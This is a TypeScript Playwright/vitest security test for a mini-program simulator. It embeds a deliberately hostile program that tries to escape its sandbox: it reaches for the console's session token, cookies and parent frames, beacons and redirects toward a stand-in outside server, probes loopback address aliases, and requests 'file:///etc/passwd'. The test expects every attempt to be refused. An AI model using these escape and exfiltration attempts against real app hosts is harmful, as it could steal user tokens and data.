import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createDevServer, type DevServer } from '@sparrow/cloud';
import { createCompiler } from '@sparrow/compiler';
import { createSimulator, launchBrowser } from '@sparrow/simulator/server';
import { writeTree } from '@sparrow/testkit';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

let browser: Browser;
let dir: string;
let server: DevServer;
/** A site of somebody else, which counts who comes. */
let outside: Server;
const visits: string[] = [];
let token = '';

/** The logic layer of a hostile program: each attempt answers with what it got, or throws. */
const hostile = `
const realm = Function('return this')();
const settle = (promise) => Promise.race([
  Promise.resolve(promise).then((value) => 'GOT ' + String(value && value.status !== undefined ? value.status : value), (error) => 'refused: ' + (error.message || error.errMsg || error)),
  new Promise((resolve) => setTimeout(() => resolve('refused: no answer'), 2500)),
]);
const attempt = (run) => { try { return settle(run()); } catch (error) { return settle(Promise.reject(error)); } };
module.exports = {
  attempts: (base, outside) => ({
    fetch: () => realm.fetch(base + '/api/v1/status'),
    fetchNoCors: () => realm.fetch(base + '/simulator/phone.html', { mode: 'no-cors' }),
    fetchOutside: () => realm.fetch(outside + '/fetch', { mode: 'no-cors' }),
    xhr: () => new Promise((resolve, reject) => { const x = new realm.XMLHttpRequest(); x.open('GET', base + '/api/v1/status'); x.onload = () => resolve(x.status); x.onerror = () => reject(new Error('blocked')); x.send(); }),
    webSocket: () => new Promise((resolve, reject) => { const s = new realm.WebSocket(base.replace('http', 'ws') + '/simulator/events'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('blocked')); }),
    eventSource: () => new Promise((resolve, reject) => { const s = new realm.EventSource(base + '/api/v1/logs'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('blocked')); }),
    beacon: () => { if (!realm.navigator.sendBeacon) throw new Error('no beacon'); realm.navigator.sendBeacon(outside + '/beacon'); throw new Error('sent is not reached'); },
    importScripts: () => { realm.importScripts(base + '/simulator/assets/view.js'); return 'loaded'; },
    dynamicImport: () => realm.eval('import("' + base + '/simulator/assets/phone.js")'),
    nestedWorker: () => new Promise((resolve, reject) => { const w = new realm.Worker(base + '/simulator/assets/service.js'); w.onmessage = resolve; w.onerror = () => reject(new Error('blocked')); }),
    indexedDB: () => new Promise((resolve, reject) => { const r = realm.indexedDB.open('x'); r.onsuccess = () => resolve('open'); r.onerror = () => reject(r.error); }),
    caches: () => realm.caches.open('x').then(() => 'open'),
    localStorage: () => realm.localStorage.setItem('a', 'b') || 'stored',
    cookie: () => { if (!realm.document) throw new Error('no document'); return 'cookie ' + realm.document.cookie; },
    parentDocument: () => { if (!realm.parent || realm.parent === realm) throw new Error('no parent'); return realm.parent.document.title; },
    topStorage: () => { if (!realm.top || realm.top === realm) throw new Error('no top'); return realm.top.sessionStorage.getItem('sparrow.token'); },
    parentHandle: () => { if (!realm.parent || realm.parent === realm) throw new Error('no parent'); return realm.parent.sparrow.phone; },
    open: () => { if (!realm.open) throw new Error('no open'); const w = realm.open(base); if (!w) throw new Error('blocked'); return 'opened'; },
    navigateTop: () => { if (!realm.top) throw new Error('no top'); realm.top.location.href = outside + '/top'; return new Promise(() => {}); },
    webRtc: () => new Promise((resolve, reject) => {
      const Connection = realm.RTCPeerConnection || realm.webkitRTCPeerConnection;
      if (!Connection) throw new Error('no WebRTC');
      const c = new Connection({ iceServers: [{ urls: outside.replace('http://', 'stun:') }] });
      c.createDataChannel('x');
      c.createOffer().then((offer) => c.setLocalDescription(offer)).then(() => resolve('gathering'), reject);
    }),
    webRtcOfAFrame: () => { if (!realm.document) throw new Error('no document'); const f = realm.document.createElement('iframe'); realm.document.body.append(f); return 'got ' + new f.contentWindow.RTCPeerConnection(); },
    webRtcOfOurScriptInAFrame: () => new Promise((resolve, reject) => {
      if (!realm.document) throw new Error('no document');
      const f = realm.document.createElement('iframe');
      f.srcdoc = '<script src="' + base + '/simulator/assets/single.js"></' + 'script><script>parent.postMessage({ rtc: typeof RTCPeerConnection }, "*")</' + 'script>';
      realm.addEventListener('message', ({ data }) => { if (data && data.rtc) resolve(data.rtc); });
      realm.document.body.append(f);
      setTimeout(() => reject(new Error('nothing ran')), 1000);
    }),
    navigateParent: () => { if (!realm.parent || realm.parent === realm) throw new Error('no parent'); realm.parent.location.href = outside + '/parent'; return new Promise(() => {}); },
    navigateSibling: () => { if (!realm.parent || realm.parent === realm) throw new Error('no parent'); for (let i = 0; i < realm.parent.length; i++) if (realm.parent[i] !== realm) realm.parent[i].location.href = outside + '/sibling'; throw new Error('nothing to be seen'); },
    relayControl: () => wx.request({ url: base + '/api/v1/status' }),
    relayControlByName: () => wx.request({ url: base.replace('127.0.0.1', 'localhost') + '/api/v1/status' }),
    relayControlBySix: () => wx.request({ url: base.replace('127.0.0.1', '[::1]') + '/api/v1/status' }),
    relayControlByZero: () => wx.request({ url: base.replace('127.0.0.1', '0.0.0.0') + '/api/v1/status' }),
    relayControlByOther: () => wx.request({ url: base.replace('127.0.0.1', '127.9.9.9') + '/api/v1/status' }),
    relayControlByDot: () => wx.request({ url: base.replace('127.0.0.1', 'localhost.') + '/api/v1/status' }),
    relayOtherApp: () => wx.request({ url: base + '/@other/local/' }),
    relayRedirect: () => wx.request({ url: outside + '/redirect' }),
    relayDownload: () => wx.downloadFile({ url: base + '/simulator/phone.html' }),
    relaySocket: () => new Promise((resolve, reject) => { const s = wx.connectSocket({ url: base.replace('http', 'ws') + '/simulator/events' }); s.onOpen(() => resolve('open')); s.onError((e) => reject(new Error(e.errMsg))); s.onClose(() => reject(new Error('closed'))); }),
  }),
  run: (name, base, outside) => attempt(() => module.exports.attempts(base, outside)[name]()),
};`;

beforeAll(async () => {
  browser = await launchBrowser();
  outside = createServer((request, response) => {
    visits.push(request.url ?? '');
    if (request.url === '/redirect') response.writeHead(302, { location: `${server.url}/api/v1/status` }).end();
    else response.end('outside');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  dir = await mkdtemp(join(tmpdir(), 'sparrow-hostile-'));
  await writeTree(dir, {
    'project.config.json': { appid: 'wxhostile', projectname: 'hostile' },
    // Outside is on this machine: only what is named there may be asked.
    'sparrow.json': { domains: [`127.0.0.1:${(outside.address() as AddressInfo).port}`] },
    'app.json': { pages: ['pages/a/a'] },
    'app.js': `App({ hostile: require('./hostile') })`,
    'hostile.js': hostile,
    'pages/a/a.wxml': '<view>hostile</view><image src="{{src}}"/>',
    'pages/a/a.js': 'Page({ data: { src: "" } })',
  });
  const compiler = createCompiler({ dir });
  const register = createSimulator({ compiler, watch: false });
  server = await createDevServer({
    dir,
    port: 0,
    watch: false,
    consoleDir: join(import.meta.dirname, '../apps/console/dist'),
    registerSimulator: async (app, deps) => {
      const simulator = await register(app, deps);
      token = simulator.token;
      return simulator;
    },
  });
});
afterAll(async () => {
  await server.close();
  await browser.close();
  outside.close();
  await rm(dir, { recursive: true, force: true });
});

async function openPhone(mode: string): Promise<Page> {
  // In the console's own tab storage lies what the program is after.
  const page = await browser.newPage();
  await page.goto(server.consoleUrl);
  await page.waitForFunction(() => sessionStorage.getItem('sparrow.token') !== null);
  await page.goto(`${server.url}/simulator/phone.html?${mode}#${new URLSearchParams({ token, mode, user: 'victim' })}`);
  await page.waitForFunction(() => window.sparrow?.settled('pages/a/a'));
  return page;
}

describe.each(['dual', 'single'] as const)('a hostile mini program [%s]', (mode) => {
  const outsideUrl = (): string => `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;

  it('reaches nothing of the console from its logic layer', async () => {
    const page = await openPhone(mode);
    visits.length = 0;
    const names = await page.evaluate(
      ([base, far]) =>
        window.sparrow.phone?.evaluate('({ getApp }, base, far) => Object.keys(getApp().hostile.attempts(base, far))', [
          base,
          far,
        ]),
      [server.url, outsideUrl()],
    );
    expect((names as string[]).length).toBeGreaterThan(25);
    const results: Record<string, string> = {};
    for (const name of names as string[])
      results[name] = (await page.evaluate(
        ([attempt, base, far]) =>
          window.sparrow.phone?.evaluate('({ getApp }, name, base, far) => getApp().hostile.run(name, base, far)', [
            attempt,
            base,
            far,
          ]),
        [name, server.url, outsideUrl()],
      )) as string;
    const reached = Object.entries(results).filter(([, result]) => !result.startsWith('refused'));
    expect(reached).toEqual([]);
    // The redirect's first address is the only one a program may ask.
    expect(visits).toEqual(['/redirect']);
    expect(page.url()).toContain('/simulator/phone.html');
    await page.close();
  });

  // A frame that was navigated away is gone, with the program in it: each way has a phone of its own.
  it.each([
    'realm.location.href = outside + "/self"',
    'realm.location.replace(outside + "/replace")',
    'const a = realm.document.createElement("a"); a.href = outside + "/link"; realm.document.body.append(a); a.click()',
    'const m = realm.document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + outside + "/meta"; realm.document.head.append(m)',
    'const f = realm.document.createElement("form"); f.action = outside + "/form"; realm.document.body.append(f); f.submit()',
    'realm.open(outside + "/open", "_self")',
    'const f = realm.document.createElement("iframe"); f.src = outside + "/inner"; realm.document.body.append(f)',
    'realm.location.href = base + "/simulator/phone.html"',
  ])('carries nothing out by %s', async (code) => {
    const page = await openPhone(mode);
    visits.length = 0;
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.evaluate(
      ([source, base, far]) =>
        void window.sparrow.phone
          ?.evaluate(`(_env, base, outside) => { const realm = Function('return this')(); ${source} }`, [base, far])
          .catch(() => {}),
      [code, server.url, outsideUrl()],
    );
    await page.waitForTimeout(1200);
    expect(visits).toEqual([]);
    expect(asked.filter((url) => /phone\.html/.test(url))).toEqual([]);
    expect(page.url()).toContain('/simulator/phone.html');
    await page.close();
  });

  it('reaches nothing from the view, even with code of its own there', async () => {
    const page = await openPhone(mode);
    visits.length = 0;
    const handle = await page.evaluateHandle(() => window.sparrow.phone?.viewFrame(1) ?? null);
    const frame = await handle.asElement()?.contentFrame();
    const results = await frame?.evaluate(
      async ([base, far]) => {
        const tries: Record<string, () => unknown> = {
          origin: () =>
            location.origin === 'null' || self.origin === 'null' ? Promise.reject(new Error('opaque')) : self.origin,
          fetch: () => fetch(`${base}/api/v1/status`),
          outside: () => fetch(`${far}/view`, { mode: 'no-cors' }),
          cookie: () => document.cookie || 'empty but readable',
          storage: () => localStorage.length,
          parent: () => window.parent.document.title,
          handle: () => (window.parent as Window).sparrow.phone,
          top: () => window.top?.sessionStorage.getItem('sparrow.token'),
          open: () => window.open(base) ?? Promise.reject(new Error('blocked')),
          beacon: () =>
            navigator.sendBeacon(`${far}/beacon`)
              ? new Promise((_, no) => setTimeout(() => no(new Error('queued, then dropped')), 300))
              : Promise.reject(new Error('no')),
          form: () => {
            const form = document.createElement('form');
            form.action = `${far}/form`;
            document.body.append(form);
            form.submit();
            return new Promise((_, no) => setTimeout(() => no(new Error('nothing happened')), 300));
          },
          frame: () =>
            new Promise((yes, no) => {
              const inner = document.createElement('iframe');
              inner.src = `${base}/`;
              document.body.append(inner);
              setTimeout(() => {
                try {
                  yes((inner.contentWindow as Window).document.title);
                } catch (error) {
                  no(error);
                }
              }, 500);
            }),
        };
        const answers: Record<string, string> = {};
        for (const [name, run] of Object.entries(tries)) {
          try {
            answers[name] = `GOT ${String(await run())}`;
          } catch (error) {
            answers[name] = `refused: ${(error as Error).message}`;
          }
        }
        return answers;
      },
      [server.url, outsideUrl()] as const,
    );
    expect(Object.entries(results ?? { none: 'GOT' }).filter(([, result]) => !result.startsWith('refused'))).toEqual(
      [],
    );
    expect(visits).toEqual([]);
    await page.close();
  });
});

describe('native', () => {
  it('refuses calls that are unknown, malformed, or not for a view', async () => {
    const page = await openPhone('dual');
    const answers = await page.evaluate(async () => {
      const phone = window.sparrow.phone;
      const results: unknown[] = [];
      for (const source of [
        '({ wx }) => wx.showToast({ title: 5 }).catch((e) => e.errMsg)',
        '({ wx }) => wx.request({ url: "file:///etc/passwd" }).catch((e) => e.errMsg)',
        '({ wx }) => wx.navigateTo({ url: "/../../api/v1/status" }).catch((e) => e.errMsg)',
      ])
        results.push(await phone?.evaluate(source, []));
      return results;
    });
    expect(answers).toEqual([
      'showToast:fail parameter error: parameter.title should be String instead of Number;',
      'request:fail invalid url "file:///etc/passwd"',
      'navigateTo:fail page "api/v1/status" is not found',
    ]);
    await page.close();
  });
});
